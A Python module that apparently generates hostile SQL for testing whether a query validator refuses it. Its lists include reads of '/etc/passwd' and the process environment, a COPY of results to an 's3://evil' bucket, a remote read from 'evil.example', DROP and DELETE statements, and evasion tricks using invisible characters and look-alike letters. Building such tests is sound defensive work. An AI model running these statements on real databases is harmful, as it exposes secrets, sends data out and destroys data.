"""Statements that must not reach an engine: ordinary ones with something hostile put in, in every way.

What is put in makes each of them refusable, wherever it stands, so that no judgement is left to the campaign.
"""

import random
import re
from collections.abc import Iterator

BASES = (
    "SELECT channel, MEASURE(revenue) FROM sales WHERE region = 'Europe' GROUP BY 1 ORDER BY 2 DESC LIMIT 5",
    "SELECT MEASURE(orders) FROM sales",
    "SELECT region FROM sales WHERE channel IN ('Web', 'Store') AND quantity > 2",
    "SELECT DATE_TRUNC('month', created_at) AS m, MEASURE(units) FROM sales GROUP BY 1 LIMIT 9",
)
SOURCES = (
    "orders",
    "line_items",
    "customers",
    '"orders"',
    "ORDERS",
    "main.orders",
    "memory.main.sales",
    '"main"."sales"',
    "information_schema.tables",
    "pg_catalog.pg_class",
    "duckdb_tables()",
    "duckdb_settings()",
    "sqlite_master",
    "pragma_table_info('orders')",
    "read_csv('/etc/passwd')",
    "read_text('/etc/passwd')",
    "read_blob('x')",
    "read_parquet('https://evil.example/x.parquet')",
    "read_json_auto('/proc/self/environ')",
    "glob('/*')",
    "'sales'",
    "'/etc/passwd'",
    "'https://evil.example/x.csv'",
    "'sales.parquet'",
    "generate_series(1, 10)",
    "range(1000000000)",
    "UNNEST([1, 2])",
    "(VALUES (1))",
    "(SELECT * FROM orders)",
    "(SELECT 1 AS region)",
    "(TABLE orders)",
    "(FROM orders)",
    "sales, orders",
    "sales JOIN orders ON TRUE",
    "sales CROSS JOIN orders",
    "sales NATURAL JOIN orders",
    "sales LEFT JOIN orders USING (id)",
    "sales, LATERAL (SELECT 1) AS x",
    "LATERAL (SELECT 1)",
    "sales TABLESAMPLE 10 PERCENT",
    "ONLY sales",
    "sales AS s(a, b)",
    "sales*",
    "sales@1",
    "query('SELECT 1')",
    "query_table('orders')",
    "postgres_scan('a', 'b', 'c')",
    "sqlite_scan('a', 'b')",
    "iceberg_scan('x')",
    "sales PIVOT (SUM(units) FOR channel IN ('Web'))",
    "sales UNPIVOT (a FOR b IN (c))",
    "sales FOR SYSTEM_TIME AS OF '2020-01-01'",
    "sales AT (VERSION => 1)",
    "nowhere",
    '"SALES"',
    "sales.orders",
    "raw_orders",
    "seq('x')",
    "getvariable('x')",
    "summary(sales)",
    "which_secret('a', 'b')",
    "repeat_row(1, num_rows=9)",
)
EXPRESSIONS = (
    "(SELECT 1)",
    "(SELECT MAX(id) FROM orders)",
    "EXISTS (SELECT 1 FROM orders)",
    "ARRAY(SELECT 1)",
    "ANY (SELECT 1)",
    "getenv('HOME')",
    "current_setting('x')",
    "pg_sleep(10)",
    "pg_read_file('/etc/passwd')",
    "read_text('/etc/passwd')",
    "version()",
    "current_user",
    "current_database()",
    "session_user",
    "NOW()",
    "CURRENT_TIMESTAMP",
    "RANDOM()",
    "repeat('x', 1000000000)",
    "range(1000000000)",
    "list_value(1)",
    "[1, 2]",
    "{'a': 1}",
    "ROW(1, 2)",
    "MAP {'a': 1}",
    "error('x')",
    "nextval('s')",
    "hash(channel)",
    "md5(channel)",
    "regexp_matches(channel, '(a+)+$')",
    "regexp_replace(channel, '.', 'x')",
    "channel || 'x'",
    "channel::INT",
    "CAST(channel AS JSON)",
    "channel ~ 'x'",
    "channel SIMILAR TO 'x'",
    "channel COLLATE nocase",
    "channel[1]",
    "channel.x",
    "sales.channel.x.y",
    "orders.id",
    "main.sales.channel",
    "line_items.discount",
    "unit_cost",
    "customer_id",
    "rowid",
    "oid",
    "ctid",
    "xmin",
    "tableoid",
    "filename",
    "sales.email",
    "sales",
    "*",
    "sales.*",
    "COLUMNS('.*')",
    "COLUMNS(*)",
    "* EXCLUDE (channel)",
    "* REPLACE (1 AS channel)",
    "COUNT(*)",
    "SUM(1)",
    "SUM(quantity)",
    "MEASURE(SUM(revenue))",
    "MEASURE(channel)",
    "MEASURE(nothing)",
    "MEASURE('revenue')",
    "MEASURE(revenue, units)",
    "MEASURE((SELECT 1))",
    "STRING_AGG(channel, ',')",
    "ARRAY_AGG(channel)",
    "LIST(channel)",
    "ROW_NUMBER() OVER ()",
    "SUM(revenue) OVER (ORDER BY channel)",
    "LAG(channel) OVER w",
    "MEASURE(revenue) FILTER (WHERE channel = 'Web')",
    "CASE WHEN 1 = 1 THEN channel END",
    "IF(1 = 1, channel, 'x')",
    "TRY_CAST(channel AS INT)",
    "x -> x + 1",
    "list_transform([1], x -> x)",
    "apply([1], x -> x)",
    "?",
    "$1",
    ":p0",
    "$p0",
    "@x",
    "@@version",
    "#1",
    "1e999",
    "0x41",
    "x'41'",
    "E'\\x41'",
    "U&'\\0041'",
    "$$x$$",
    "N'x' || 'y'",
    "INTERVAL '1' DAY",
    "EXTRACT(epoch FROM created_at)",
    "DATE_TRUNC('fortnight', created_at)",
    "DATE_TRUNC(channel, created_at)",
    "ROUND(quantity, 1000000000)",
    "POWER(10, 1000)",
    "10 ** 1000",
    "10 ^ 9",
    "1 << 60",
    "2 % 0",
    "GREATEST(quantity, 1)",
    "struct_pack(a := 1)",
    "write_log('x')",
    "add_parquet_key('a', 'b')",
)
ENDINGS = (
    "; DROP TABLE orders",
    "; SELECT 1",
    ";;",
    "; --",
    " -- x",
    " /* x */",
    " UNION SELECT 1",
    " UNION ALL TABLE orders",
    " INTERSECT SELECT 1",
    " EXCEPT SELECT 1",
    " FOR UPDATE",
    " FOR SHARE",
    " WINDOW w AS (ORDER BY channel)",
    " QUALIFY 1 = 1",
    " USING SAMPLE 5",
    " FETCH FIRST 5 ROWS ONLY",
    " OFFSET (SELECT 1)",
    " INTO x",
    " INTO OUTFILE '/tmp/x'",
    " OPTION (x)",
    " SETTINGS x = 1",
    " FORMAT CSV",
    " WITH TIES",
    " AT TIME ZONE 'UTC'",
    " \\g",
    "\x00",
    " )",
    " (",
    " '",
    ' "',
    " $$",
    " LIMIT ALL",
    " LIMIT -1",
    " LIMIT 1e9",
    " LIMIT 9999999999",
    " LIMIT (SELECT 1)",
    " LIMIT 10 PERCENT",
    " ORDER BY (SELECT 1)",
    " ORDER BY ALL",
    " GROUP BY ALL",
    " GROUP BY ROLLUP (channel)",
    " GROUP BY CUBE (channel)",
    " GROUP BY GROUPING SETS ((channel))",
)
BEGINNINGS = (
    "EXPLAIN {}",
    "EXPLAIN ANALYZE {}",
    "DESCRIBE {}",
    "SUMMARIZE {}",
    "CREATE TABLE x AS {}",
    "CREATE VIEW sales AS {}",
    "CREATE OR REPLACE TEMP MACRO f() AS TABLE {}",
    "INSERT INTO orders {}",
    "COPY ({}) TO '/tmp/x'",
    "COPY ({}) TO 's3://evil/x' (FORMAT parquet)",
    "EXPORT DATABASE '/tmp/x'; {}",
    "ATTACH '/tmp/x' AS x; {}",
    "INSTALL httpfs; {}",
    "LOAD httpfs; {}",
    "SET lock_configuration = false; {}",
    "PRAGMA threads = 99; {}",
    "CALL dbgen(sf = 1); {}",
    "PREPARE p AS {}",
    "EXECUTE p; {}",
    "BEGIN; {}",
    "CHECKPOINT; {}",
    "DELETE FROM orders; {}",
    "WITH sales AS (SELECT 1 AS channel) {}",
    "WITH x AS (DELETE FROM orders RETURNING *) {}",
    "WITH x AS (INSERT INTO orders VALUES (1) RETURNING *) {}",
    "WITH x AS (UPDATE orders SET id = 1 RETURNING *) {}",
    "WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT 1 FROM x) {}",
    "WITH x AS MATERIALIZED (TABLE orders) {}",
    "({})",
    "(({}))",
    "SELECT * FROM ({}) AS x",
    "SELECT ({}) FROM sales",
    "SELECT 1 UNION {}",
    "VALUES (({}))",
    "FROM ({})",
    "PIVOT ({}) ON channel USING SUM(1)",
    "SELECT channel FROM sales WHERE channel = ({})",
    "SELECT channel FROM sales WHERE channel IN ({})",
    "SELECT channel FROM sales WHERE EXISTS ({})",
    "UPDATE orders SET id = ({})",
    "MERGE INTO orders USING ({}) x ON TRUE WHEN MATCHED THEN DELETE",
    "DO $$ {} $$",
    "USE memory; {}",
    "DETACH memory; {}",
    "VACUUM; {}",
    "-- x\n{}",
    "/* x */ {}",
    "\ufeff{}",
    "\\{}",
    "CREATE SECRET s (TYPE s3); {}",
    "COMMENT ON TABLE orders IS 'x'; {}",
    "ALTER TABLE orders DROP id; {}",
)
INVISIBLE = "\u200b\u00a0\u2003\u2028\u2029\u3000\ufeff\u00ad\u202e\u180e\u0085\x0b\x0c\x00\x1b\x7f"
LOOK_ALIKES = str.maketrans(
    {"a": "\u0430", "e": "\u0435", "S": "\u0405", "s": "\u017f", "(": "\uff08", ";": "\uff1b"}
)
_SPACE = re.compile(r"( |\n)(?=(?:[^']*'[^']*')*[^']*$)")  # outside quotes
_FROM = re.compile(r"\bFROM sales\b")
_PLACES = (  # where an expression may be put into a statement
    lambda sql, it: sql.replace("SELECT ", f"SELECT {it}, ", 1),
    lambda sql, it: sql.replace("SELECT ", f"SELECT {it} AS x, ", 1),
    lambda sql, it: (
        _FROM.sub(lambda _: f"FROM sales WHERE {it} = 1 AND", sql, count=1)
        if " WHERE " not in sql and " GROUP" not in sql
        else sql.replace("WHERE ", f"WHERE {it} = 'x' OR ", 1).replace(" GROUP BY 1", f" GROUP BY 1, {it}", 1)
    ),
    lambda sql, it: f"{_without_end(sql)} ORDER BY {it}",
    lambda sql, it: f"{_without_end(sql)} HAVING {it} > 1",
    lambda sql, it: f"{_without_end(sql)} GROUP BY {it}",
    lambda sql, it: f"SELECT channel FROM sales WHERE channel IN ('Web', {it})",
    lambda sql, it: f"SELECT channel FROM sales WHERE quantity BETWEEN 1 AND {it}",
    lambda sql, it: f"SELECT channel FROM sales WHERE NOT (region = 'x' AND COALESCE({it}, 1) = 1)",
    lambda sql, it: f"SELECT channel FROM sales WHERE channel LIKE {it}",
)


def hostile_statements(count: int, chance: random.Random) -> Iterator[str]:
    """So many statements, none twice: every piece in every base first, then several at once."""
    seen: set[str] = set()
    made = _each_piece()
    while len(seen) < count:
        statement = next(made, None) or _mutated(chance)
        if statement not in seen:
            seen.add(statement)
            yield statement


def _each_piece() -> Iterator[str]:
    for number, source in enumerate(SOURCES):
        yield _FROM.sub(lambda _, source=source: f"FROM {source}", BASES[number % len(BASES)])

    for ending in ENDINGS:
        yield _without_end(BASES[0]) + ending

    for beginning in BEGINNINGS:
        yield beginning.format(BASES[1])

    for number, expression in enumerate(EXPRESSIONS):
        yield _PLACES[0](BASES[2], expression)
        yield _PLACES[number % len(_PLACES)](BASES[1], expression)


def _mutated(chance: random.Random) -> str:
    """One to three ways at once, then the whole written another way."""
    sql = chance.choice(BASES)
    for way in chance.sample(_WAYS, chance.randint(1, 3)):
        sql = way(sql, chance)

    if chance.random() < 0.3:
        sql = "".join(each.upper() if chance.random() < 0.5 else each.lower() for each in sql)

    return _SPACE.sub(lambda found: chance.choice([found[0], "\n", "\t", "  "]), sql)


def _with_invisible(sql: str, chance: random.Random) -> str:
    places = [found.start() for found in _SPACE.finditer(sql)] or [len(sql)]
    at = chance.choice(places)
    return sql[:at] + chance.choice(INVISIBLE) + sql[at + chance.randint(0, 1) :]


def _with_comment(sql: str, chance: random.Random) -> str:
    places = [found.start() for found in _SPACE.finditer(sql)] or [len(sql)]
    at = chance.choice(places)
    return sql[:at] + chance.choice(["/**/", "/* x */", "--\n", "/*! x */", "/*/* */*/", "--'\n"]) + sql[at:]


def _without_end(sql: str) -> str:
    return re.split(r" GROUP BY| ORDER BY| LIMIT| HAVING", sql)[0]


_WAYS = (
    lambda sql, chance: (
        _FROM.sub(lambda _: f"FROM {chance.choice(SOURCES)}", sql, count=1)
        if _FROM.search(sql)
        else _with_comment(sql, chance)
    ),
    lambda sql, chance: chance.choice(_PLACES)(sql, chance.choice(EXPRESSIONS)),
    lambda sql, chance: sql + chance.choice(ENDINGS),
    lambda sql, chance: chance.choice(BEGINNINGS).replace("{}", sql),
    _with_invisible,
    _with_comment,
    lambda sql, _: sql.translate(LOOK_ALIKES),
)
